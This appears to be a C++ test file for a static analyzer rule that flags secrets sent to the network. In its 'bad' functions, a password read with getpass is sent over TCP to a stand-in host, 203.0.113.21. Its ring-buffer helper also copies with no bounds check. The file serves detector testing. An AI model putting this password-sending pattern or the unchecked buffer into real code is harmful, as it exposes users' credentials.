// One thread asks, another sends what it finds in the queue; or it waits in a ring of bytes.
#include <arpa/inet.h>
#include <cstring>
#include <deque>
#include <queue>
#include <string>
#include <sys/socket.h>
#include <unistd.h>

static int dial() {
    sockaddr_in to = {};
    to.sin_family = AF_INET;
    to.sin_port = htons(5000);
    inet_aton("203.0.113.21", &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    return connect(fd, reinterpret_cast<sockaddr *>(&to), sizeof to) == 0 ? fd : -1;
}

static std::queue<std::string> bad_jobs;
static std::queue<std::string> good_jobs;

void bad_ask() {
    bad_jobs.push(getpass("Password: "));
}

void bad_work() {
    std::string job = bad_jobs.front();
    bad_jobs.pop();
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(dial(), job.c_str(), job.size(), 0);
}

void good_ask(const char *name) {
    std::string word = getpass("Password: ");
    good_jobs.push(std::string("login of ") + name);
    word.clear();
}

void good_work() {
    std::string job = good_jobs.front();
    good_jobs.pop();
    send(dial(), job.c_str(), job.size(), 0);
}

namespace {

class ring {
  public:
    explicit ring(size_t size) : first_(new char[size]), next_(first_) {}
    void put(const char *text) {
        size_t size = strlen(text);
        memcpy(next_, text, size);
        next_ += size;
    }
    size_t size() const {
        return static_cast<size_t>(next_ - first_);
    }
    const char *text() const {
        return first_;
    }

  private:
    char *first_, *next_;
};

} // namespace

void bad_ring() {
    ring words(256);
    words.put(getpass("Password: "));
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(dial(), words.text(), words.size(), 0);
}

void good_ring() {
    ring words(256), kept(256);
    kept.put(getpass("Password: "));
    words.put("hello");
    send(dial(), words.text(), words.size(), 0);
}

void bad_deque() {
    std::deque<std::string> words;
    words.push_back(getpass("Password: "));
    words.push_back("over");
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(dial(), words.front().c_str(), words.front().size(), 0);
}
